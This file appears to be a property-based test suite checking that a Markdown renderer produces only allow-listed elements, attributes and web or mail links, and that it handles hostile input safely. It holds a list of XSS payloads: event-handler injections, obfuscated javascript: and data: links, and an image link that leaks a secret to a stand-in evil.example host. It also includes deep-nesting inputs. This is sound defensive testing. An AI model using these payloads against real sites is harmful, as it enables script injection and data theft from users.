import assert from 'node:assert/strict';
import fc from 'fast-check';
import { markdown, rendered, renderedInTime, streamed } from '../support/markdown.ts';
import { usePage } from '../support/page.ts';

const ELEMENTS = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'aria-expanded aria-hidden aria-label checked class data-code-action dir disabled href role start tabindex title type'.split(
    ' ',
  ),
);

function assertInert(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    assert.ok(ELEMENTS.has(element.tagName), `element ${element.tagName}`);
    for (const { name } of element.attributes) assert.ok(ATTRIBUTES.has(name), `attribute ${name}`);
    const href = element.getAttribute('href');
    if (href !== null) assert.match(href, /^(https?|mailto):/);
  }
}

const attack = fc.oneof(
  fc.constantFrom(
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action=https://evil.example><input>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x) [x](command:workbench.action.quit) [x](vscode://x) [x](file:///etc/passwd)',
    '[x](//evil.example) [x](/etc/passwd) [x](#hash)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1)) ![x](https://evil.example/?q=secret)',
    '[![x](https://evil.example/a.png)](javascript:alert(1))',
    '[r]\n\n[r]: javascript:alert(1)\n',
    '```js" onmouseover="alert(1)\ncode\n```\n',
    '```<img src=x>\ncode\n```\n',
    '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
    '<b onmouseover=alert(1)>',
  ),
  markdown,
);

describe('Markdown written by somebody hostile', () => {
  usePage();

  it('makes nothing but known elements, known attributes and web or mail links', function () {
    // A thousand pages in jsdom: seconds, on a machine that does nothing else.
    this.timeout(60_000);
    fc.assert(
      fc.property(fc.array(attack, { maxLength: 4 }), (parts) => {
        assertInert(rendered(parts.join('')));
        assertInert(streamed(parts.join('')));
      }),
      { numRuns: 600 },
    );
  });

  it('shows raw HTML as the text that it is', () => {
    const html = '<img src=x onerror=alert(1)>';
    assert.equal(rendered(`Look: ${html} there`).textContent, `Look: ${html} there`);
    assert.equal(
      rendered(`<div onclick="x()">\n${html}\n</div>\n`).textContent,
      `<div onclick="x()">\n${html}\n</div>`,
    );
  });

  it('shows an image as its description and address, and loads nothing', () => {
    const element = rendered('![a chart](https://example.com/chart.png)');
    assert.equal(element.textContent, 'a chart (https://example.com/chart.png)');
    assert.equal(element.querySelector('img'), null);
  });

  it('shows a link that may not be opened as text, with its address at hand', () => {
    const element = rendered('[click](javascript:alert(1))');
    assert.equal(element.querySelector('a'), null);
    assert.equal(element.textContent, 'click');
    assert.equal(element.querySelector('span')?.title, 'javascript:alert(1)');
  });

  it('survives nesting deeper than its lexer', async () => {
    const deep = '>'.repeat(20_000);
    const { textContent } = await renderedInTime(deep);
    assert.ok(textContent === deep, 'it is shown as it is');
  });

  it('shows quotes and lists in each other as far as anybody reads, and deeper ones as text', async () => {
    const nested = (sign: string, depth: number): string => `${sign.repeat(depth)}end`;
    const quotes = async (depth: number) =>
      (await renderedInTime(nested('> ', depth))).querySelectorAll('blockquote').length;
    const items = async (depth: number) =>
      (await renderedInTime(nested('- ', depth))).querySelectorAll('li').length;
    assert.deepEqual([await quotes(90), await quotes(2000)], [90, 0]);
    assert.deepEqual([await items(40), await items(2000)], [40, 0]);
    assert.equal((await renderedInTime(nested('> ', 2000))).textContent, nested('> ', 2000));
  });
});
